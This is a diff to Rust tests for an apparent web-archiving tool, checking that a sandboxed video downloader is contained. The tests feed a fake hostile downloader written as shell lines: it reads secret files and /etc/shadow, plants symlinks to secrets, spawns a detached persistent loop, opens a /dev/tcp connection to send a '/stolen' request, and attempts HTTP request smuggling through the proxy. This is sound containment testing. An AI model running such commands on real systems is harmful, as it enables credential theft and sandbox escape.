@@ -95,7 +95,7 @@ fn a_player_that_leads_inward_is_refused_at_the_gate() {
     trap.set_nonblocking(true).unwrap();
     let url =
         page(&server, "/player.html?video=2", &format!("<video src='http://{}/film.mp4'></video>", trap.local_addr().unwrap()));
-    let (captures, _) = archived(&program, &url, 0);
+    let (captures, _) = archived(&program, &url, 4);
     assert!(trap.accept().is_err(), "nobody connected");
     assert!(
         captures
@@ -216,18 +216,83 @@ fn a_hostile_downloader_neither_reads_nor_writes_nor_connects_outside() {
     let body = format!(
         "cat {home}/secret.txt >> got.txt; cat {home}/c/case.sqlite >> got.txt; cat {home}/config/exhibit/key >> got.txt; ls {home}/c >> got.txt; cat /etc/shadow >> got.txt\n\
          echo x > {home}/written.txt; echo x > /tmp/exhibit-written-$$; echo x >> {home}/c/exhibit.toml; rm -f {home}/secret.txt; mkdir {home}/made\n\
+         ln -s {home}/secret.txt media.0.1.mp4; ln {home}/secret.txt media.0.2.mp4\n\
+         setsid sh -c 'while :; do ln -sf {home}/secret.txt media.0.99.txt; sleep 0.01; done' {home}/outlives &\n\
          bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && printf \"GET /stolen HTTP/1.1\\r\\n\\r\\n\" >&3' && echo connected >> got.txt\n\
-         [ -s got.txt ] && mv got.txt media.0.22.mp4 ; printf done > media.0.99.txt; exit 0"
+         [ -s got.txt ] && mv got.txt media.0.22.mp4 ; printf done > media.0.88.txt; exit 0"
     );
     case(&program, &liar(&program, &body));
     let before = std::fs::read(program.path("c/exhibit.toml")).unwrap();
     let url = page(&server, "/player.html?video=1", "A player.");
-    let (captures, exhibits) = archived(&program, &url, 0);
+    let (captures, exhibits) = archived(&program, &url, 4);
     let own = captures.iter().find(|one| one["method"] == "yt-dlp").unwrap();
-    assert_eq!(own["outcome"], "placeholder", "it ran to its end: {own:#?}");
-    assert_eq!(own["received"], 4, "and got nothing: {own:#?}");
+    assert!(matches!(own["outcome"].as_str(), Some("placeholder" | "error")), "it ran to its end: {own:#?}");
+    assert!(own["received"].as_u64().unwrap() <= 4, "and got nothing: {own:#?}");
     assert_eq!(server.count("/stolen"), 0);
     assert!(program.path("secret.txt").exists() && !program.path("written.txt").exists() && !program.path("made").exists());
     assert_eq!(std::fs::read(program.path("c/exhibit.toml")).unwrap(), before);
     assert!(exhibits.iter().all(|one| one["role"] == "page"));
+    let held = support::contents(&program.path("c/vault"));
+    assert!(held.values().all(|bytes| !bytes.windows(6).any(|six| six == b"canary")), "nothing of others is in the vault");
+    let running = std::fs::read_dir("/proc").unwrap().flatten().filter_map(|one| std::fs::read(one.path().join("cmdline")).ok());
+    let outlives = format!("{home}/outlives");
+    assert!(!running.into_iter().any(|line| String::from_utf8_lossy(&line).contains(&outlives)), "all of it ended");
+}
+
+#[test]
+fn several_films_of_a_page_are_kept_each_with_its_own_facts() {
+    let (program, server) = (Program::new(), Server::start());
+    case(&program, &real());
+    server.serve("/one.mp4", "video/mp4", media("convoy.mp4"));
+    let two = [media("convoy.mp4"), b"\0\0\0\x0cfreebyte".to_vec()].concat();
+    server.serve("/two.mp4", "video/mp4", two.clone());
+    let url = page(&server, "/player.html?video=4", "<video src='/one.mp4'></video><video src='/two.mp4'></video>");
+    let (captures, exhibits) = archived(&program, &url, 0);
+    let own = captures.iter().find(|one| one["method"] == "yt-dlp").unwrap();
+    assert_eq!((own["outcome"].as_str(), own["completeness"].as_str()), (Some("ok"), Some("complete")), "{own:#?}");
+    let originals: Vec<&str> =
+        exhibits.iter().filter(|one| one["role"] == "original").map(|one| one["sha256"].as_str().unwrap()).collect();
+    for film in [media("convoy.mp4"), two] {
+        assert!(originals.contains(&exhibit::evidence::Digest::of(&film).to_string().as_str()), "{exhibits:#?}");
+    }
+}
+
+#[test]
+fn the_gate_passes_one_request_of_one_reading() {
+    use std::io::{Read, Write};
+    let (program, server) = (Program::new(), Server::start());
+    // Says at the gate what others could read as two requests, or with a body of unknown length.
+    let body = r#"cat > ask.sh <<'ASK'
+# The gate hangs up in the middle.
+trap '' PIPE
+page=${1%/*}; host=${page#http://}
+gate=${http_proxy#http://}; word=$(printf %s "${gate%@*}" | base64 -w0); port=${gate##*:}; port=${port%/}
+ask() {
+    exec 3<>"/dev/tcp/127.0.0.1/$port"
+    printf "GET $page/$1 HTTP/1.1\r\nHost: $host\r\nProxy-Authorization: Basic $word\r\n$2\r\n$3" >&3
+    timeout 2 cat <&3 >/dev/null
+    exec 3>&-
+}
+ask folded 'X: a\r\n b\r\n'
+ask bare 'X: a\nY: b\r\n'
+ask chunked 'Transfer-Encoding: chunked\r\n' '0\r\n\r\n'
+ask behind '' "GET $page/smuggled HTTP/1.1\r\nHost: $host\r\n\r\n"
+ask plain
+ASK
+for a in "$@"; do last=$a; done; bash ask.sh "$last"; rm ask.sh; exit 1"#;
+    case(&program, &liar(&program, body));
+    for path in ["/folded", "/bare", "/chunked", "/behind", "/plain", "/smuggled"] {
+        server.on(path, |connection, _| {
+            // All that came, and nothing behind it.
+            let _ = connection.set_read_timeout(Some(std::time::Duration::from_millis(100)));
+            let mut more = Vec::new();
+            let _ = connection.read_to_end(&mut more);
+            assert!(more.is_empty(), "{}", String::from_utf8_lossy(&more));
+            let _ = connection.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
+        });
+    }
+    let url = page(&server, "/player.html?video=1", "A player.");
+    let (captures, _) = archived(&program, &url, 0);
+    let asked = ["/folded", "/bare", "/chunked", "/behind", "/plain", "/smuggled"].map(|path| server.count(path));
+    assert_eq!(asked, [0, 0, 0, 1, 1, 0], "{captures:#?}");
 }
